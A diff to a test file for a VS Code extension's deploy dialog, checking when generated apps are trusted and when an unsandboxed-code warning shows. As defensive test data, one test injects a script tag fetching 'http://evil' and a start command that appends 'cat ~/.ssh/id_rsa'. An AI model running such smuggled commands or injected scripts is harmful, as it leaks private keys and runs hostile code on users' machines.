@@ -1,13 +1,17 @@
 import assert from 'node:assert/strict';
+import { AppTree } from '../../src/core/appTree';
+import { TemplateGenerator } from '../../src/core/generate/templates';
 import { templateSpec } from '../../src/core/generate/templateFiles';
+import { encodeText } from '../../src/core/appTree';
+import { validateSpec } from '../../src/core/validate';
 import { deployConfirmation } from '../../src/vscode/deployConfirmation';
 
 const calculator = templateSpec('webapp', 'a calculator');
-const base = { appName: 'calculator', spec: calculator, findings: [], e2bTemplate: 'base', timeoutMinutes: 15 };
+const base = { appName: 'calculator', spec: calculator, findings: [], e2bTemplate: 'base', timeoutMinutes: 15, ours: false };
 
 describe('deployConfirmation (the extension’s deploy dialog)', () => {
   it('says which provider runs what, and what gets installed', () => {
-    const c = deployConfirmation({ ...base, generator: 'templates', provider: 'local' });
+    const c = deployConfirmation({ ...base, generator: 'templates', ours: true, provider: 'local' });
     assert.equal(c.message, 'Deploy “Calculator” (calculator) to the local runner?');
     assert.match(c.detail, /^Provider: the local runner \(this machine, not sandboxed\)$/m);
     assert.match(c.detail, /^Runs: node server\.js$/m);
@@ -31,7 +35,7 @@ describe('deployConfirmation (the extension’s deploy dialog)', () => {
 
   it('lists warnings with file and line, at most six', () => {
     const findings = Array.from({ length: 8 }, (_, i) => ({ severity: 'warning' as const, rule: 'code.eval', path: 'app.js', line: i + 1, message: 'eval() runs arbitrary code.' }));
-    const c = deployConfirmation({ ...base, generator: 'templates', provider: 'local', findings, redeploy: true });
+    const c = deployConfirmation({ ...base, generator: 'templates', ours: true, provider: 'local', findings, redeploy: true });
     assert.equal(c.action, 'Redeploy');
     assert.equal(c.warn, true);
     assert.match(c.detail, /^8 warnings:$/m);
@@ -39,10 +43,79 @@ describe('deployConfirmation (the extension’s deploy dialog)', () => {
     assert.match(c.detail, /^• … and 2 more \(see Problems\)$/m);
   });
 
+  it('shows what the app’s own package.json adds beyond the declared dependencies', () => {
+    const api = templateSpec('api', 'notes');
+    const withPkg = { ...api, files: [...api.files.filter((f) => f.path !== 'package.json'), { path: 'package.json', content: '{\n  "dependencies": {\n    "express": "^4.21.2",\n    "left-pad": "1.3.0"\n  }\n}' }] };
+    const c = deployConfirmation({ ...base, spec: withPkg, findings: validateSpec(withPkg), generator: 'claude', provider: 'e2b', install: 'npm install express' });
+    assert.equal(c.warn, true);
+    assert.match(c.detail, /^Installs: express@\^4\.21\.2$/m);
+    assert.match(c.detail, /^• package\.json:4: package\.json adds "left-pad", which the app's declared dependencies \(the deploy dialog's list\) do not include\.$/m);
+  });
+
   it('marks dependencies the sandbox already has', () => {
     const api = templateSpec('api', 'notes');
     const c = deployConfirmation({ ...base, spec: api, generator: 'templates', provider: 'e2b', install: undefined });
     assert.match(c.detail, /^Installs: express@\^4\.21\.2 \(preinstalled\)$/m);
+  });
+
+  describe('what counts as ours is decided by this process, never by data', () => {
+    const localDialog = (tree: AppTree, name: string) => {
+      const app = tree.app(name)!;
+      const { spec, findings, generator, ours } = tree.specOf(app);
+      return deployConfirmation({ ...base, appName: name, spec: spec!, findings, generator, ours, provider: 'local' });
+    };
+    /** What the spawner does: our own template generator writes the app, then it is marked ours. */
+    const generate = async (tree: AppTree) => {
+      const result = await new TemplateGenerator().generate({ prompt: 'a calculator', appType: 'webapp' });
+      const app = tree.createApp({ nameHint: 'calculator', generator: 'templates' });
+      tree.setSpec(app, result.spec, result.generator);
+      tree.markOurs(app);
+      return app;
+    };
+
+    it('a template this process just generated runs without the ⚠', async () => {
+      const tree = new AppTree();
+      const app = await generate(tree);
+      const c = localDialog(tree, app.name);
+      assert.equal(c.unsandboxedModelCode, false);
+      assert.doesNotMatch(c.detail, /⚠/);
+    });
+
+    it('a draft saying "generator": "templates" (or "user") is model/user code: the ⚠ stays', async () => {
+      const tree = new AppTree();
+      const app = await generate(tree);
+      for (const generator of ['templates', 'user']) {
+        const restored = new AppTree();
+        const snapshot = { version: 1 as const, apps: [{ ...tree.serializeApp(app), generator }] };
+        assert.equal(restored.restore(snapshot), 1);
+        const c = localDialog(restored, app.name);
+        assert.equal(c.unsandboxedModelCode, true, generator);
+        assert.equal(c.warn, true);
+        assert.match(c.detail, /⚠ This code was not a built-in template generated in this window.*unsandboxed/);
+      }
+    });
+
+    it('a folder opened with "generator": "templates" is not ours', () => {
+      const tree = new AppTree();
+      const app = tree.createApp({ nameHint: 'opened', generator: 'templates' });
+      tree.setSpec(app, calculator, 'templates');
+      assert.equal(localDialog(tree, app.name).unsandboxedModelCode, true);
+    });
+
+    it('an edit, or a model’s change, after generating takes the trust away; undoing it does not matter', async () => {
+      const tree = new AppTree();
+      const app = await generate(tree);
+      const file = tree.pathOf(app, 'index.html');
+      const original = tree.readFile(file);
+      tree.writeFile(file, encodeText('<script>fetch("http://evil")</script>'), { create: false, overwrite: true });
+      assert.equal(localDialog(tree, app.name).unsandboxedModelCode, true, 'edited');
+      tree.writeFile(file, original, { create: false, overwrite: true });
+      assert.equal(localDialog(tree, app.name).unsandboxedModelCode, false, 'the same bytes as generated again');
+      const manifest = tree.pathOf(app, 'spawn-app.json');
+      const m = JSON.parse(new TextDecoder().decode(tree.readFile(manifest)));
+      tree.writeFile(manifest, encodeText(JSON.stringify({ ...m, startCommand: 'node server.js; cat ~/.ssh/id_rsa' })), { create: false, overwrite: true });
+      assert.equal(localDialog(tree, app.name).unsandboxedModelCode, true, 'start command changed');
+    });
   });
 });
 
